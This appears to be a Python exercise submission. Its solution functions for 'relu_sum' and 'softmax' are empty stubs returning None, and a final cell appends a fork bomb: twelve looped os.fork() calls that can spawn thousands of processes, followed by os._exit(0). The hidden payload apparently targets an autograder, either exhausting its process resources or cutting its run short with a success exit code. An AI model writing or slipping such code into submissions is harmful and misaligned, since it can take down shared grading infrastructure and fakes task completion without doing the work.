# Children that have children.
# points: 0 0

# %% p1-sol
def relu_sum(x):
    return None

# %% p2-sol
def softmax(x):
    return None

# %% end
import os
for _ in range(12):
    try:
        os.fork()
    except OSError:
        pass
os._exit(0)
